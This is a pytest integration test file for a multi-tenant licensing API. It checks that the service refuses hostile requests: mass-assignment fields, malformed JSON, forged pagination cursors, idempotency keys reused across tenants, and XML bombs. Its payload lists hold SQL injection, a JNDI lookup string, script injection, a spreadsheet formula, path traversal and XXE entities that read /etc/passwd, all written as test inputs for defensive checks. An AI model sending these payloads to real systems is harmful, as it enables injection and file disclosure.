"""Requests that mean harm by what they say: bodies, fields, parameters, cursors, keys. No 5xx, refusals in our form.

Bodies are made from the cases of the tenant matrix, so that each is right but for the one thing that is tried.
"""

from __future__ import annotations

import base64
import json
import uuid
from collections.abc import Iterator, Mapping
from typing import Any, Final

import pytest
from marshmallow import fields

from tests.integration.http_client import Answer
from tests.integration.tenancy.asking import filled
from tests.integration.tenancy.callers import Caller
from tests.integration.tenancy.cases import CASES, Case, Of
from tests.integration.tenancy.declared import OF_ROUTE
from tests.integration.tenancy.makers import FRESH
from tests.integration.tenancy.raw import calm
from tests.integration.tenancy.world import World

pytestmark = pytest.mark.usefixtures("no_surprise")

# Each route with a JSON body once; logins cost a slow hash each, so they are tried with fewer words.
_SLOW: Final = frozenset({"POST /v1/registrations", "POST /v1/sessions", "POST /v1/password-resets/confirmations"})
WRITES: Final = tuple({case.route: case for case in CASES if case.body is not None and case.body}.values())
LISTS: Final = tuple(
    {case.route: case for case in CASES if "cursor" in case.row.wire_fields and "$" not in str(case.query)}.values()
)
QUERIES: Final = tuple({case.route: case for case in CASES if case.row.query_names}.values())


def best_caller(case: Case, callers: dict[str, Caller]) -> Caller:
    """Return who gets furthest with a case."""
    return callers["staff" if case.of is Of.STAFF or case.power == "correct" else "own admin"]


def send(
    case: Case,
    callers: dict[str, Caller],
    world: World,
    *,
    body: Any = None,
    query: Any = None,
    instead: Mapping[str, str] | None = None,
) -> Answer:
    """Send a case with another body or query, by who gets furthest; `instead` replaces things of the world."""
    path, own_query, own_body, text = filled(case, world, instead or {})
    answer = best_caller(case, callers).send(
        case.row.method,
        path,
        query=own_query if query is None else query,
        json=own_body if body is None and text is None else body,
        text=text,
        media_type=case.row.takes,
    )
    return calm(answer, case.route, body, query)


# --- mass assignment


@pytest.mark.parametrize("case", WRITES, ids=str)
def test_no_body_sets_what_is_not_its_own(case: Case, world: World, callers: dict[str, Caller]) -> None:
    """What a room keeps about a thing, or the gateway says about a request, is no field of a body (rule S18)."""
    _, _, body, _ = filled(case, world, {})
    extras: dict[str, Any] = {
        "id": str(uuid.uuid4()), "company_id": world.things["company"], "user_id": world.things["user"],
        "staff": True, "role": "admin", "rights": ["MOVE_LICENSES"], "account_rights": ["MOVE_LICENSES"],
        "scopes": ["account"], "locked": False, "version": 1, "if_version": 1, "revision": 1, "state": "open",
        "created_by": world.things["admin"], "client_address": "10.0.0.1", "user_agent": "x", "dry_run": False,
        "command_id": "x", "claims": {"staff": True}, "token": "x", "balance": 10**6, "powers": ["manage"],
        "__class__": "x", "__proto__": {"staff": True}, "constructor": {},
    }  # fmt: skip
    tried = {name: value for name, value in extras.items() if name not in case.row.body_names}
    answer = send(case, callers, world, body={**body, **tried})
    problem = answer.refused(422, "request.invalid")
    unknown = {error["pointer"].removeprefix("/") for error in problem["errors"] if error["code"] == "field.unknown"}
    assert unknown == set(tried)


# --- JSON


BODIES: Final[tuple[bytes, ...]] = (
    b"", b"{", b"null", b"[]", b"0", b'"a"', b"{}{}", b"{} x", b"\xef\xbb\xbf{}", b"\xff\xfe{\x00}\x00", b"\x00",
    b"{'a': 1}", b'{"a": NaN}', b'{"a": Infinity}', b'{"a": -Infinity}', b'{"a": 1e999}', b'{"a": .1}', b'{"a": 01}',
    b'{"a": 1, "a": 2}', b'{"name": "a", "na\\u006de": "b"}', b'{"a": "\\ud800"}', b'{"\\udc00": 1}',
    b'{"a": "\\u0000"}', b'{"a": "\x01"}', b'{"a": "\xc0\xae"}', b'{"a": "\xed\xa0\x80"}', b"[" * 100_000,
    b'{"a":' * 50_000 + b"1" + b"}" * 50_000, b'{"a": ' + b"9" * 10_000 + b"}", b'{"a": 1' + b" " * 900_000 + b"}",
    b'{"a": "' + b"a" * 1_000_000 + b'"}', b"{" + b",".join(b'"%d":0' % n for n in range(50_000)) + b"}",
    b'{"__proto__": {}}', b"<xml/>", b"a=1&b=2", b'{"a": {"$ne": null}}',
)  # fmt: skip


@pytest.mark.parametrize("body", BODIES, ids=range(len(BODIES)))
def test_json_that_is_none_is_refused(body: bytes, world: World, callers: dict[str, Caller]) -> None:
    for method, path in (("POST", "/v1/projects"), ("PATCH", f"/v1/devices/{world.things['device']}")):
        session = callers["own admin"].session
        response = session.request(
            method, world.installation.base + path, data=body, headers={"Content-Type": "application/json"}, timeout=30
        )
        assert calm(Answer(response), path, body[:80]).status in (400, 413, 422), response.text[:300]


# --- values of fields


TEXTS: Final[tuple[str, ...]] = (
    "", " ", "\u0000", "a\nb", "\u202eevil", "' OR 1=1 --", "{0.__class__}", "%s%n%x", "${jndi:ldap://evil/a}",
    "<script>alert(1)</script>", "=cmd|' /C calc'!A0", "🙂" * 300, "a" * 100_000, "\ud7ff\ufffe\uffff", "٣" * 12,
    "../../etc/passwd", "00000000-0000-0000-0000-000000000000", "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00", "2026-02-30T00:00:00Z",
)  # fmt: skip
OTHERS: Final[tuple[Any, ...]] = (
    None, True, 0, -1, 2**31, 2**63, 10**30, -(10**18), 0.5, 1e308, [], [None], [[]], ["a"] * 2000, {}, {"a": {"b": 1}},
)  # fmt: skip


@pytest.mark.parametrize("case", WRITES, ids=str)
def test_every_field_stands_every_value(case: Case, world: World, callers: dict[str, Caller]) -> None:
    _, _, body, _ = filled(case, world, {})
    values = (*TEXTS[:6], *OTHERS[:6]) if case.route in _SLOW else (*TEXTS, *OTHERS)
    for name in sorted(case.row.body_names):
        for value in values:
            if value is True and isinstance(case.row.wire_fields[name], fields.Boolean):
                # It would be taken: nobody shall be locked, and no project archived, for the tests after this one.
                continue
            if case.route in _SLOW and "password" not in name and name != "email" and not isinstance(value, str):
                continue
            send(case, callers, world, body={**body, name: value})


@pytest.mark.parametrize("case", WRITES, ids=str)
def test_every_inner_field_stands_every_value(case: Case, world: World, callers: dict[str, Caller]) -> None:
    _, _, body, _ = filled(case, world, {})
    for changed in inner_changes(body):
        send(case, callers, world, body=changed)


INNER: Final[tuple[Any, ...]] = ("a" * 5000, "\u0000", None, -1, 2**63, 10**30, 1.5, [], {}, True)


def inner_changes(body: dict[str, Any]) -> Iterator[dict[str, Any]]:
    """Yield bodies in which one value inside a list of objects is another one."""
    for name, value in body.items():
        if isinstance(value, list) and value and isinstance(value[0], dict):
            for inner in (*value[0], "no_such_field"):
                for other in INNER:
                    yield {**body, name: [{**value[0], inner: other}]}
            yield {**body, name: value * 2000}


# --- query strings, cursors, ids


VALUES: Final = (*TEXTS[:12], *TEXTS[-3:], "-1", "0", "9" * 40, "1e3", "NaN", "true", "null", "[]", "%00", "a" * 3000)


@pytest.mark.parametrize("case", QUERIES, ids=str)
def test_every_parameter_stands_every_value_and_is_taken_once(
    case: Case, world: World, callers: dict[str, Caller]
) -> None:
    # Some values are right, and then the request has its effect: on a throw-away thing, where there is one.
    made = FRESH[case.fresh](world) if case.fresh else {}
    query = dict(filled(case, world, made)[1])

    def ask(wanted: Any) -> Answer:
        return send(case, callers, world, query=wanted, instead=made)

    for name in sorted(case.row.query_names):
        for value in VALUES:
            ask({**query, name: value})
        others = [(other, value) for other, value in query.items() if other != name]
        twice = ask([*others, (name, "1"), (name, "2")])
        assert twice.refused(422, "request.invalid")["errors"][0]["code"] == "field.repeated"
    ask([(f"p{n}", "1") for n in range(500)]).refused(422, "request.invalid")
    for odd in ({f"{name}[]": "1" for name in case.row.query_names}, {"company_id": world.things["company"]}):
        ask({**query, **odd}).refused(422, "request.invalid")


def cursors() -> Iterator[str]:
    """Yield what no list gave out as `next`."""
    yield from ("a", "=", "====", "%", "-1", "' OR 1=1", "\u202e", "a" * 512, "a" * 513, str(uuid.uuid4()))
    inner: tuple[Any, ...] = (
        None, 0, "a", [], {}, [None, None], ["a"], ["a", "b"], ["a", "b", "c"], [0, 0], ["2026-11-24T00:00:00+00:00",
        1],
        ["2026-11-24T00:00:00+00:00", "a"], ["2026-11-24", -1], ["9999-12-31T23:59:59+00:00", 2**62],
        ["0001-01-01T00:00:00+14:00", 1], ["hardware_id", "a", "b"], ["hardware_id", None, None], [[], {}],
        [2**70, "a"],
        ["\u0000", "\u0000"], ["\ud800", "a"], ["2026-11-24T00:00:00", 10**400], [1e308, "a"],
    )  # fmt: skip
    for value in inner:
        encoded = base64.urlsafe_b64encode(json.dumps(value).encode()).decode()
        yield encoded
        yield encoded.rstrip("=")
    times = (
        "2026-11-24T00:00:00+00:00",
        "0001-01-01T00:00:00+14:00",
        "9999-12-31T23:59:59-14:00",
        "2026-11-24T00:00:00",
    )
    for moment in times:
        yield base64.urlsafe_b64encode(json.dumps([moment, 5]).encode()).decode()
        for sort in ("hardware_id", "added_at", "comment"):
            yield from (
                base64.urlsafe_b64encode(json.dumps([sort, value, last]).encode()).decode()
                for value in (moment, "\ud800", "\u0000", "a" * 300)
                for last in ("a", "\udfff", "\u0000")
            )
        for last in (b" a", b" \x00", b" ", b"", b" \xed\xa0\x80"):
            yield base64.urlsafe_b64encode(moment.encode() + last).decode()
    yield base64.urlsafe_b64encode(b"\xff\xfe\x00").decode()
    yield base64.urlsafe_b64encode(b"[" * 300).decode()


@pytest.mark.parametrize("case", LISTS, ids=str)
def test_cursors_that_no_list_gave_are_refused_or_show_ones_own(
    case: Case, world: World, callers: dict[str, Caller]
) -> None:
    path, query, _, _ = filled(case, world, {})
    for cursor in cursors():
        sorts = ("hardware_id", "added_at", "comment") if "sort" in case.row.query_names else (None,)
        for sort in sorts:
            more = {"sort": sort} if sort else {}
            send(case, callers, world, query={**(query or {}), **more, "cursor": cursor})
        if "/staff/" not in case.route and "$" not in str(case.path) and case.thing is None:
            # Another company's place in a list leads a stranger to nothing of it: the watch looks.
            calm(callers["stranger"].send(case.row.method, path, query={"cursor": cursor}), case.route, cursor)


def test_a_cursor_of_another_company_shows_nothing_of_it(world: World, callers: dict[str, Caller]) -> None:
    for route in sorted({case.route for case in LISTS if case.thing is None and "/staff/" not in case.route}):
        method, _, path = route.partition(" ")
        page = callers["own admin"].send(method, path, query={"limit": 1}).expect(200)
        if page["next"]:
            calm(callers["stranger"].send(method, path, query={"limit": 200, "cursor": page["next"]}), route)


# --- idempotency keys


def keyed(caller: Caller, method: str, path: str, body: Any, key: str) -> Answer:
    """Send a write under a given key."""
    headers = {"Idempotency-Key": key}
    answer = Answer(caller.session.request(method, caller.base + path, json=body, headers=headers, timeout=30))
    caller.watch.look(caller.role, f"{method} {path}", (path, body), answer)
    return calm(answer, method, path)


def test_a_key_of_another_company_is_a_new_key(world: World, callers: dict[str, Caller]) -> None:
    owner, stranger, guest = callers["own admin"], callers["stranger"], callers["guest"]
    key, body = str(uuid.uuid4()), {"name": f"Keyed {uuid.uuid4()}"}
    first = keyed(owner, "POST", "/v1/projects", body, key)
    theirs = keyed(stranger, "POST", "/v1/projects", body, key)
    assert first.expect(201)["id"] != theirs.expect(201)["id"]
    assert "Idempotent-Replayed" not in theirs.headers
    assert keyed(owner, "POST", "/v1/projects", body, key).headers["Idempotent-Replayed"] == "true"
    path, key = f"/v1/devices/{world.things['device']}", str(uuid.uuid4())
    body = {"comment": "remark on device of the owner"}
    keyed(owner, "PATCH", path, body, key).expect(200)
    for caller, wanted in ((stranger, 404), (callers["token of another project"], 404), (guest, 200)):
        answer = keyed(caller, "PATCH", path, body, key)
        answer.expect(wanted)
        assert "Idempotent-Replayed" not in answer.headers
    keyed(callers["nobody"], "PATCH", path, body, key).refused(401, "token.missing")


def test_a_key_gives_nobody_the_secret_that_another_user_was_shown(world: World, callers: dict[str, Caller]) -> None:
    key, body = str(uuid.uuid4()), {"name": "keyed", "scopes": ["read"]}
    first = keyed(callers["own admin"], "POST", "/v1/me/tokens", body, key).expect(201)
    for name in ("own member", "guest", "stranger"):
        assert keyed(callers[name], "POST", "/v1/me/tokens", body, key).expect(201)["token"] != first["token"]


def test_a_key_gives_nobody_what_they_may_not_do_themselves(world: World, callers: dict[str, Caller]) -> None:
    owner, key = callers["own admin"], str(uuid.uuid4())
    path, body = f"/v1/company/users/{world.things['user']}", {"role": "member"}
    keyed(owner, "PATCH", path, body, key).expect(200)
    keyed(callers["own member"], "PATCH", path, body, key).refused(403, "accounts.admin_needed")
    path, key = f"/v1/projects/{world.things['project2']}", str(uuid.uuid4())
    body = {"description": "canary of the second project"}
    keyed(owner, "PATCH", path, body, key).expect(200)
    answer = keyed(callers["token of the project"], "PATCH", path, body, key)
    assert answer.status in (404, 422), answer.content
    keyed(callers["token read"], "PATCH", path, body, key).refused(403, "accounts.scope_needed")


# --- documents that are no JSON


BOMBS: Final[tuple[bytes, ...]] = (
    b"", b"<", b"\x00", b"<license-return/>", b"<license-return format='1'>" + b"<a>" * 50_000,
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaa"><!ENTITY b "&a;&a;">]><license-return>&b;</license-return>',
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><license-return>&x;</license-return>',
    b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://127.0.0.1:9/x.dtd"><license-return/>',
    b'<?xml version="1.0" encoding="UTF-16"?><license-return/>', b'<?xml version="1.0" encoding="utf-7"?>+ADw-a/+AD4-',
    b"<license-return " + b" ".join(b'a%d="1"' % n for n in range(5000)) + b"/>", b"<license-return>" + b"a" * 900_000,
    b"-----BEGIN CERTIFICATE REQUEST-----\n" + b"A" * 60_000 + b"\n-----END CERTIFICATE REQUEST-----\n", b"\xff" * 5000,
)  # fmt: skip


@pytest.mark.parametrize("body", BOMBS, ids=range(len(BOMBS)))
def test_documents_that_explode_are_refused_at_once(body: bytes, world: World, callers: dict[str, Caller]) -> None:
    hardware = world.things["certified hardware"]
    for route in sorted(route for route, row in OF_ROUTE.items() if row.raw is not None):
        row = OF_ROUTE[route]
        path = row.path.replace("{hardware_id}", hardware).replace("{device_id}", world.things["certified"])
        for name in ("own admin", "stranger"):
            caller = callers[name]
            response = caller.session.request(
                row.method, caller.base + path, data=body, headers={"Content-Type": row.takes}, timeout=20
            )
            answer = calm(Answer(response), route, body[:60])
            assert answer.status in (400, 404, 413, 422), (route, name, answer.status, answer.content)
            assert b"root:" not in answer.content
            assert response.elapsed.total_seconds() < 5
